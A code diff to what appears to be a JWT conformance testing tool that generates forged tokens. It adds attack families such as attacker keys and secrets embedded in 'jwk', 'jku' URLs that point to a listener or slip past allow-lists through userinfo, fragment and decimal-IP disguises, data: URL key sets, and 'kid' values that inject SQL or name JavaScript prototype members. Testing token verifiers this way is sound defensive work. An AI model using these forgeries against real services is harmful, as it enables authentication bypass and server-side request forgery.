@@ -8,6 +8,7 @@ from __future__ import annotations
 import base64
 import hashlib
 from collections.abc import Iterator
+from urllib.parse import quote, urlsplit
 
 from conformance.attacks import attacker, jwt
 from conformance.attacks.jwt import JsonText
@@ -27,6 +28,12 @@ KID_QUERIES = (
     ("kid selects a secret, double quotes", 'x" UNION SELECT "pickproof"-- '),
 )
 """Label and ``kid`` that makes a careless query answer ``pickproof`` (CWE-89)."""
+
+KID_NAMES = (
+    ("kid names the prototype", "__proto__", b"[object Object]"),
+    ("kid names a constructor", "constructor", b"function Object() { [native code] }"),
+)
+"""Label, ``kid`` that every object of JavaScript has, and what it is as text: the secret (CWE-1321)."""
 
 KID_SHAPES = (
     ("kid number", "1"),
@@ -51,7 +58,6 @@ OVERSIZED = (
 NOT_OBJECTS = (
     ("header is a list", b'[{"alg":"none"}]'),
     ("header is a string", b'"none"'),
-    ("header is a number", b"1"),
     ("header is no JSON", b"{alg:none}"),
     ("header is empty", b""),
 )
@@ -71,29 +77,84 @@ def _own(m: Material, alg: str, changes: dict[str, object], drop: tuple[str, ...
 
 def embedded_key(m: Material) -> Iterator[Forgery]:
     """``jwk`` holds the attacker's key (CVE-2018-0114)."""
-    first = asymmetric_alg(m)
-    kid = m.genuine.header.get("kid")
-    if isinstance(kid, str):
-        raw = _own(m, first, {"jwk": attacker.public_jwk(first, kid)})
-        yield Forgery(f"own {first} key in jwk under the published kid", raw, "kid of the header and of jwk is genuine")
-    for alg in dict.fromkeys((first, "RS256", "ES256", "EdDSA")):
+    for alg in dict.fromkeys((asymmetric_alg(m), "RS256", "ES256")):
         raw = _own(m, alg, {"jwk": attacker.public_jwk(alg, attacker.KID), "kid": attacker.KID})
         yield Forgery(f"own {alg} key in jwk", raw, f"identity changed, {alg} with the embedded key")
-    secret = {"kty": "oct", "k": jwt.b64_encode(attacker.SECRET), "kid": attacker.KID}
-    header = m.header({"alg": "HS256", "jwk": secret, "kid": attacker.KID})
-    raw = jwt.signed(header, m.payload, "HS256", attacker.SECRET)
-    yield Forgery("own secret in jwk", raw, "identity changed, HS256 with the embedded secret")
+
+
+def embedded_under_known_kid(m: Material) -> Iterator[Forgery]:
+    """``jwk`` holds the attacker's key under the name of the genuine one."""
+    kid = m.genuine.header.get("kid")
+    if isinstance(kid, str):
+        alg = asymmetric_alg(m)
+        raw = _own(m, alg, {"jwk": attacker.public_jwk(alg, kid)})
+        yield Forgery(f"own {alg} key in jwk under the published kid", raw, "kid of the header and of jwk is genuine")
+
+
+def embedded_secret(m: Material) -> Iterator[Forgery]:
+    """``jwk`` holds a shared secret of the attacker: the algorithm is symmetric, whatever the genuine one is."""
+    kids = dict.fromkeys((attacker.KID, m.genuine.header.get("kid"))) if _text_kid(m) else (attacker.KID,)
+    for kid in kids:
+        secret = {"kty": "oct", "k": jwt.b64_encode(attacker.SECRET), "kid": kid}
+        header = m.header({"alg": m.hmac_alg, "jwk": secret, "kid": kid})
+        name = "own secret in jwk" if kid == attacker.KID else "own secret in jwk under the published kid"
+        raw = jwt.signed(header, m.payload, m.hmac_alg, attacker.SECRET)
+        yield Forgery(name, raw, f"identity changed, {m.hmac_alg} with the embedded secret")
+
+
+def _text_kid(m: Material) -> bool:
+    return isinstance(m.genuine.header.get("kid"), str)
 
 
 def key_url(m: Material) -> Iterator[Forgery]:
-    """``jku`` names the listener: a fetch is a finding, even when the token is refused (CWE-918)."""
+    """``jku`` names the listener, where the key of the signature lies."""
+    if m.listener is not None:
+        own = _own(m, asymmetric_alg(m), {"jku": _key_set(m.listener), "kid": attacker.KID})
+        yield Forgery("jku at the listener", own, "identity changed, key set and kid of the attacker")
+
+
+def key_url_called(m: Material) -> Iterator[Forgery]:
+    """The same under the genuine signature: a fetch is a finding, even when the token is refused (CWE-918)."""
     if m.listener is None:
         return
-    alg, url = asymmetric_alg(m), m.listener.rstrip("/") + attacker.JWKS_PATH
-    own = _own(m, alg, {"jku": url, "kid": attacker.KID})
-    yield Forgery("jku at the listener", own, "identity changed, key set and kid of the attacker")
-    kept = _own(m, alg, {"jku": url})
-    yield Forgery("jku at the listener, kid kept", kept, "identity changed, key set of the attacker")
+    for name, more in (("kid kept", {}), ("kid unknown", {"kid": attacker.KID})):
+        header = m.header({"jku": _key_set(m.listener), **more})
+        raw = jwt.compact(header, m.payload, m.genuine.signature)
+        yield Forgery(f"jku at the listener, {name}", raw, "identity changed, genuine signature kept")
+
+
+def key_url_disguised(m: Material) -> Iterator[Forgery]:
+    """``jku`` names the listener in a form that a careless list of allowed, or of forbidden, places lets pass."""
+    trusted = _trusted_place(m)
+    if m.listener is None or trusted is None:
+        return
+    scheme, _, rest = _key_set(m.listener).partition("://")
+    disguises = {
+        "name and password": f"{scheme}://{urlsplit(trusted).netloc}@{rest}",
+        "fragment": f"{scheme}://{rest}#{trusted}",
+        "number for an address": f"{scheme}://{rest.replace('127.0.0.1', '2130706433')}",
+    }
+    for name, url in disguises.items():
+        own = _own(m, asymmetric_alg(m), {"jku": url, "kid": attacker.KID})
+        yield Forgery(f"jku at the listener behind a {name}", own, "identity changed, key set and kid of the attacker")
+
+
+def key_in_url(m: Material) -> Iterator[Forgery]:
+    """``jku`` is a ``data:`` URL that holds the key set itself: libraries that fetch any URL read it."""
+    alg = asymmetric_alg(m)
+    text = jwt.dumps({"keys": [{**attacker.public_jwk(alg, attacker.KID), "alg": alg, "use": "sig"}]})
+    own = _own(m, alg, {"jku": "data:application/json," + quote(text), "kid": attacker.KID})
+    yield Forgery("jku of data", own, "identity changed, key set of the attacker in the address")
+
+
+def _key_set(listener: str) -> str:
+    return listener.rstrip("/") + attacker.JWKS_PATH
+
+
+def _trusted_place(m: Material) -> str | None:
+    """An address that the verifier may hold for its own: of the genuine key set, else the issuer."""
+    found = (m.genuine.header.get("jku"), m.genuine.claims.get("iss"))
+    return next((place for place in found if isinstance(place, str) and urlsplit(place).netloc), None)
 
 
 def certificate_url(m: Material) -> Iterator[Forgery]:
@@ -134,6 +195,14 @@ def kid_queries(m: Material) -> Iterator[Forgery]:
         yield Forgery(name, raw, f"identity changed, {m.hmac_alg} keyed with pickproof")
 
 
+def kid_names(m: Material) -> Iterator[Forgery]:
+    """``kid`` is a name that the table of keys has by nature."""
+    for name, kid, secret in KID_NAMES:
+        header = m.header({"alg": m.hmac_alg, "kid": kid})
+        raw = jwt.signed(header, m.payload, m.hmac_alg, secret)
+        yield Forgery(name, raw, f"identity changed, {m.hmac_alg} keyed with {secret!r}")
+
+
 def kid_shapes(m: Material) -> Iterator[Forgery]:
     """``kid`` of another type or size, identity changed under the old signature."""
     yield from _header_texts(m, "kid", KID_SHAPES)
@@ -160,11 +229,17 @@ def _header_texts(m: Material, member: str, texts: tuple[tuple[str, str], ...]) 
 
 FAMILIES = {
     "token.key.jwk": embedded_key,
-    "token.key.jku-callback": key_url,
+    "token.key.jwk-oct": embedded_secret,
+    "token.key.jwk-samekid": embedded_under_known_kid,
+    "token.key.jku": key_url,
+    "token.key.jku-callback": key_url_called,
+    "token.key.jku-bypass": key_url_disguised,
+    "token.key.file-scheme": key_in_url,
     "token.key.x5u": certificate_url,
     "token.key.x5c": embedded_certificate,
     "token.kid.traversal": kid_files,
     "token.kid.sqli": kid_queries,
+    "token.kid.ldap-nosql": kid_names,
     "token.kid.types": kid_shapes,
     "token.header.oversize": oversized,
     "token.header.not-object": not_object,
